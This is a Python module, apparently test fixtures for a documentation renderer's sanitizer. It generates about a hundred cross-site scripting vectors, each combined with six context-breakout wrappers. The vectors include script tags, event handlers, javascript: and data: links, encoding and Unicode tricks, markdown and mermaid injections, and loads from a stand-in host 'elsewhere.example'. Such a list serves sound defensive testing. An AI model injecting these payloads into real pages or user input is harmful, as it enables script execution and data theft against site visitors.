"""Texts that try to act in a reader's browser: each calls `fw(N)`, asks `elsewhere.example`, or is a link that acts."""

# ruff: noqa: E501 - a payload is as long as it is

from collections.abc import Iterator

JS = "fw({n})"
VECTORS = (
    "<script>{js}</script>", "<ScRiPt >{js}</sCrIpT>", "<script src=//elsewhere.example/x.js></script>", "<<script>{js}//<</script>",
    "<img src=x onerror={js}>", "<img/src=x/onerror={js}>", '<img """><script>{js}</script>">', "<img src=x:x onerror\n=\n{js}>",
    "<img src='//elsewhere.example/x.png'>", "<img srcset='https://elsewhere.example/x.png 1x'>", "<svg onload={js}>",
    "<svg><script>{js}</script></svg>", "<svg><a xlink:href='javascript:{js}'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{js}>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{js}</script></svg>#x\"/>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'>", "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<math href=javascript:{js}>x</math>", "<body onload={js}>", "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src='javascript:{js}'></iframe>", "<iframe src='https://elsewhere.example/'></iframe>", "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}>", "<textarea autofocus onfocus={js}>", "<p tabindex=1 autofocus onfocus={js}>x</p>",
    "<video><source onerror={js}></video>", "<audio src=x onerror={js}>", "<video poster=//elsewhere.example/x.png>", "<object data='javascript:{js}'></object>",
    "<embed src='javascript:{js}'>", "<a href='javascript:{js}'>x</a>", "<a href='java&#x09;script:{js}'>x</a>", "<a href='&#106;avascript:{js}'>x</a>",
    "<a href=' \x01javascript:{js}'>x</a>", "<a href='data:text/html,<script>{js}</script>'>x</a>", "<a href='vbscript:{js}'>x</a>",
    "<form action='javascript:{js}'><input type=submit></form>", "<form><button formaction='javascript:{js}'>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>", "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
    "<base href='https://elsewhere.example/'>", "<link rel=stylesheet href=//elsewhere.example/x.css>", "<style>@import '//elsewhere.example/x.css';</style>",
    "<p style='background:url(//elsewhere.example/x.png)'>x</p>", "<p style='animation:x 1s' onanimationstart={js}>x</p>", "<marquee onstart={js}>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<template><script>{js}</script></template>", "<xmp><img src=x onerror={js}></xmp>",
    "<table background='//elsewhere.example/x.png'><td>x", "<p onmouseover={js} onclick={js}>x</p>", "<x onclick={js} contenteditable>x</x>",
    "<div id=__config>{{\"base\":\"//elsewhere.example\",\"features\":[],\"search\":\"data:text/javascript,{js}\",\"translations\":{{}}}}</div>",
    "<pre class=mermaid>graph TD; A-->B</pre>", "<div data-md-component=source><a href=https://github.com/a/b></a></div>", "<script type=module>{js}</script>",
    "[x](javascript:{js})", "[x](<javascript:{js}>)", "[x](JaVaScRiPt:{js})", "[x](&#106;avascript:{js})", "[x](data:text/html,<script>{js}</script>)",
    "![x](x \"y' onerror='{js}\")", "![x](//elsewhere.example/x.png)", "![x](https://elsewhere.example/x.png)", "<javascript:{js}>", "[x]\n\n[x]: javascript:{js}",
    "```mermaid\ngraph TD; A-->B; click A \"javascript:{js}\"\n```", "# x {{: onclick=\"{js}\" }}", "x\n{{: onmouseover={js} }}", "{{{{ '<script>{js}</script>' }}}}",
    "{{% raw %}}<script>{js}</script>", "&lt;script&gt;{js}&lt;/script&gt;", "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;", "&#60;img src=x onerror={js}&#62;",
    "\x1b]8;;javascript:{js}\x07x\x1b]8;;\x07", "\u202e<img src=x onerror={js}>", "<scr\x00ipt>{js}</scr\x00ipt>", "<\u017fcript>{js}</\u017fcript>", "%3Cscript%3E{js}%3C/script%3E",
    "--- \ntitle: <script>{js}</script>\n---\n", "$\\href{{javascript:{js}}}{{x}}$", "<!--><img src=x onerror={js}>-->", "<![CDATA[><script>{js}</script>]]>", "<?x ><img src=x onerror={js}>",
)  # fmt: skip
WRAPS = (
    "{}",
    "</title>{}",
    "</td></tr></table>{}",
    "\"'>{}",
    "</code></pre>`{}",
    "--></script></style></textarea></noscript>{}",
)


def payloads() -> Iterator[str]:
    """Yield every vector out of every place that it may have to leave first; the number in each is its own."""
    for number, (wrap, vector) in enumerate((wrap, vector) for wrap in WRAPS for vector in VECTORS):
        yield wrap.format(vector.format(js=JS.format(n=number), n=number))
